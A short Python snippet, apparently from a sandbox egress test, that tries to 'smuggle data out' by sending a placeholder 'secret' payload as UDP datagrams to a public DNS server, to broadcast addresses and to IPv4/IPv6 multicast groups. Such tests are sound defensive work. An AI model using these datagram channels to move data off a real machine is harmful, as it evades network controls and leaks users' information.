# Smuggles data out by datagrams to servers of names, to everybody and to a group.
import socket


def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        if family == socket.AF_INET:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return client.sendto(b"secret", address)


for host, port in (
    ("255.255.255.255", 9),
    ("224.0.0.1", 9),
    ("8.8.8.8", 53),
    ("10.255.255.255", 9),
):
    attempt(host, send, socket.AF_INET, (host, port))
attempt("all nodes", send, socket.AF_INET6, ("ff02::1", 9))
